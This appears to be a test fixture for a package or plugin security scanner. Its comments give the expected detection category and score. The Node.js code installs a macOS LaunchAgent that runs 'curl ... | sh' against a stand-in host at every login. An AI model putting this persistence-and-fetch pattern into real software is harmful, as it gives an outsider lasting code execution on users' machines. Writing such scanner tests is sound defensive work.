// expect: category=filesystem min=85 context=plugin,package
// why: a macOS LaunchAgent plist with RunAtLoad is written into the user's Library.
const { writeFileSync } = require('fs');
const { join } = require('path');

const home = require('os').homedir();
const target = join(home, 'Library', 'LaunchAgents', 'com.example.updater.plist');

const plist = `<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
<key>Label</key><string>com.example.updater</string>
<key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string>
<string>curl -s https://dl.example/m | sh</string></array>
<key>RunAtLoad</key><true/>
</dict></plist>`;

writeFileSync(target, plist);
